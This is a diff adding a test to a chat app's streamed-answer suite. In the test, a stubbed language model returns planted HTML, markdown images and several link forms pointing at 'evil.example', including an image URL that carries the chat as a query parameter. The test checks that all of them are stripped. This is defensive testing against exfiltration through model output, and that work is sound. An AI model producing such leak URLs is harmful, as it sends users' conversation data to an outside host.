@@ -139,6 +139,25 @@ describe('streamed answers from the model', () => {
     expect(result.events.some((event) => JSON.stringify(event.data).includes('example.com'))).toBe(false);
   });
 
+  it('attack: planted HTML, images, bare, autolinked and reference URLs never reach the teacher', async () => {
+    model.behaviour = {
+      kind: 'answer',
+      text:
+        'Zie [Breuken vergelijken](/doorloopjes/breuken-vergelijken).\n' +
+        '<img src="https://evil.example/lek?chat=geheim"> <a href="https://evil.example/a">klik</a>\n' +
+        'Ga naar https://evil.example/bare of www.evil.example of <https://evil.example/auto>.\n' +
+        '![plaatje](https://evil.example/p.png) en [ref][x] en ![beeld][x]\n' +
+        '[x]: https://evil.example/ref',
+    };
+    // One request (the per-user limit is shared with the tests below); the whole answer and the
+    // stored history come from the same stream.
+    const streamed = await askStreamed('Links?');
+    const answer = streamedText(streamed.events);
+    expect(answer).toContain('[Breuken vergelijken](/doorloopjes/breuken-vergelijken)');
+    expect(answer).not.toMatch(/evil\.example|<img|<a |https?:/);
+    expect(streamed.events.some((event) => JSON.stringify(event.data).includes('evil.example'))).toBe(false);
+  });
+
   it('accepts a server that answers with one JSON completion although a stream was asked', async () => {
     model.behaviour = { kind: 'json', text: 'Heel antwoord.' };
     expect(streamedText((await askStreamed('Vraag')).events)).toBe('Heel antwoord.');
